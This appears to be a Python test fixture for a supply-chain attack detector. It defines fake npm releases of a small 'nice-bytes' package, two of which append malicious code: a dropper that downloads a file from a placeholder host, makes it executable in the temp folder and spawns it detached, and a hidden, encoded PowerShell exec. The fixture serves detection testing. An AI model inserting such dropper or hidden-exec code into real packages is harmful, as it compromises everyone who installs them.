"""A program that is downloaded, made executable and started, in a few lines of a library.

As axios' malicious dependency did (2026), and most droppers before: the address of a file, a folder
for temporary files, and a start that outlives npm. Here the address leads nowhere.

Post-mortem: issue 10604 of axios/axios.
In the staged tarball: new code that fetches something, makes it runnable, and runs programs.
"""

from tests.findings.attack import Attack, release

_SOURCE = "exports.bytes = (n) => `${(n / 1024).toFixed(1)} KiB`;\n"
_NEXT = _SOURCE.replace("toFixed(1)", "toFixed(2)")
_STREAMED = """
const fs = require('fs');
const web = require('https');
const { spawn } = require('child_process');

const at = require('path').join(require('os').tmpdir(), 'update.bin');
web.get('https://files.example.invalid/update', (answer) => {
  answer.pipe(fs.createWriteStream(at)).on('finish', () => {
    fs.chmodSync(at, 0o755);<<<download-and-run>>>
    spawn(at, [], { detached: true, stdio: 'ignore' }).unref();
  });
});
"""
_HIDDEN = """
const { exec } = require('child_process');
exec('powershell -NoProfile -W Hidden -Enc ZQBjAGgAbwA=');<<<odd-command>>>
"""

ATTACK = Attack(
    before=release("nice-bytes", "1.0.0", {"index.js": _SOURCE}),
    unharmed=release("nice-bytes", "1.0.1", {"index.js": _NEXT}),
    after={
        "streamed": release("nice-bytes", "1.0.1", {"index.js": _NEXT + _STREAMED}),
        "PowerShell": release("nice-bytes", "1.0.1", {"index.js": _NEXT + _HIDDEN}),
    },
)
